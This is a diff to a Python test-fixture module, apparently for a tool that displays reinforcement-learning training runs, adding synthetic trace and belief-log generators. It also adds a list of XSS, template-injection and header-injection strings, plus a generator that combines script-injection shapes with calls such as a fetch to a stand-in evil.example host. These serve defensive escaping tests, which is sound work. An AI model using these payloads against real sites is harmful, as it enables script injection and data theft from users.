@@ -100,15 +100,22 @@ def write_study(
 
 
 def write_trace(
-    folder: Path, tokens: list[str], *, step: int = 12, scale: float = 0.2, prompt: str = "7 * 6 ="
+    folder: Path,
+    tokens: list[str],
+    *,
+    step: int = 12,
+    scale: float = 0.2,
+    prompt: str = "7 * 6 =",
+    sequences: int = 2,
 ) -> None:
-    """One Parquet file of two sequences with the given tokens."""
+    """One Parquet file of sequences with the given tokens, encouraged and discouraged in turn."""
     pyarrow = pytest.importorskip("pyarrow")
     from pyarrow import parquet
 
     random.seed(step)
     rows = []
-    for sequence, advantage in enumerate((1.2, -0.8)):
+    for sequence in range(sequences):
+        advantage = (1.2, -0.8)[sequence % 2]
         for position, token in enumerate(tokens):
             raw = random.gauss(0, scale)
             kept = (position + sequence) % 3 != 2
@@ -135,3 +142,118 @@ def write_demo(
     write_trace(main, [" 4", "2", "\n", " 7"])
     write_study(folder / "stress", table, **more)
     return folder
+
+
+def write_beliefs(
+    folder: Path, *, prompts: int = 30, batches: int = 40, size: int = 8, fixed: int = 8, texts: Any = ()
+) -> None:
+    """``beliefs.jsonl`` of a tracked run: success rates that rise, and a filter with known noise."""
+    rng = random.Random(7)
+    rate = [rng.uniform(0.02, 0.9) for _ in range(prompts)]
+    mean, variance = [0.4] * prompts, [0.06] * prompts
+    rows = []
+    for batch in range(batches):
+        chosen = rng.sample(range(prompts), size)
+        row: dict[str, Any] = {
+            "step": 2 * batch, "rows": size * fixed, "allocation": "rounds", "rewards": "unit", "prompts": size,
+            "levels": [0.5, 0.9], "judged": size, "inside": [size // 2, size - (batch % 2)], "mixed": "",
+        }  # fmt: skip
+        lists: dict[str, list[Any]] = {
+            key: [] for key in ("id", "n", "reward", "mean", "sd", "noise", "after", "after_sd", "next")
+        }
+        for i in chosen:
+            n = rng.randint(2, 12)
+            wins = sum(rng.random() < rate[i] for _ in range(n))
+            noise = 0.2 / n
+            gain = variance[i] / (variance[i] + noise)
+            before = mean[i], math.sqrt(variance[i])
+            mean[i] += gain * (wins / n - mean[i])
+            variance[i] = variance[i] * (1 - gain)
+            values = (f"p{i}", n, wins / n, *before, math.sqrt(0.2), mean[i], math.sqrt(variance[i]), n + 1)
+            for key, value in zip(lists, values):
+                lists[key].append(value)
+            row["mixed"] += "1" if 0 < wins < n else "0"
+            variance[i] += 0.002
+        row |= lists
+        row |= {"used": sum(lists["n"]), "groups": size, "informative": row["mixed"].count("1")}
+        row["texts"] = {f"p{i}": str(texts[i]) if i < len(texts) else f"What is {i} + {i}?" for i in chosen}
+        rows.append(json.dumps(row) + "\n")
+    (folder / "beliefs.jsonl").write_text("".join(rows))
+
+
+def write_large_run(folder: Path, *, steps: int, completions: int, tokens: int) -> Path:
+    """A long run with a trace file for every step; the files share a few contents."""
+    write_run(folder, {"method": "kpo_diffuse"}, updates=steps, config='method = "kpo_diffuse"\n')
+    write_trace(folder, [f" word{i}" for i in range(tokens)], step=1, sequences=completions)
+    first = folder / "traces" / "step-000001.parquet"
+    for step in range(2, steps + 1):
+        first.with_name(f"step-{step:06d}.parquet").hardlink_to(first)
+    write_beliefs(folder, prompts=2_000, batches=steps // 2, size=64)
+    return folder
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<!--",
+    "--><script>alert(1)</script>",
+    "]]><script>",
+    "<![CDATA[<script>]]>",
+    "{{ 7*7 }}",
+    "{% raw %}",
+    "{{ config.__class__ }}",
+    "${7*7}",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href='http://evil'>x</a>",
+    "<meta http-equiv=refresh content=0>",
+    "<base href=//evil>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//e>",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "\x00<b\x00>",
+    "\x1b[31mred\x1b[0m",
+    "\u202egnp.exe",
+    "\u2066\u2069\u200b\ufeff",
+    "\ud800",
+    "\u2028\u2029",
+    "<" * 2000,
+    "A" * 1_000_000,
+    "<plaintext>",
+    "<textarea>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext></math>",
+    "%3Cscript%3E",
+    "data:text/html,<script>",
+    "\ufffe\U000e0041",
+    "a\r\nSet-Cookie: x",
+    "{0.__class__}{}",
+]
+
+
+def hostile_payloads() -> list[str]:
+    """The list above, and what it grows to with every way to call and every place to break out of."""
+    calls = ["window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example')"]
+    shapes = [
+        "<script>{}</script>", "</script><script>{}</script>", "</SCRIPT ><script>{}</script>",
+        "<img src=x onerror={}>",
+        "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}>",
+        "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{} autofocus onfocus={}>x</a>",
+        "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<details open ontoggle={}>",
+        "<math><mi//xlink:href=javascript:{}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
+        "<style>@import '//evil.example/{}';</style>", "<link rel=stylesheet href=//evil.example/{}>",
+        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "--!><script>{}</script>",
+        "<!--<script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>",
+        "</title><script>{}</script>", '"></span><script>{}</script>', "'\"><img src=x onerror={}>",
+        "\\u003cscript\\u003e{}\\u003c/script\\u003e", "javascript:{}", "${{{}}}", "`${{{}}}`",
+        "</script\x00><script>{}</script>", "<scr\u200bipt>{}</scr\u200bipt>", "\u202e<script>{}</script>",
+    ]  # fmt: skip
+    grown = [shape.format(*[call] * shape.count("{}")) for shape in shapes for call in calls]
+    return [*HOSTILE, *grown]
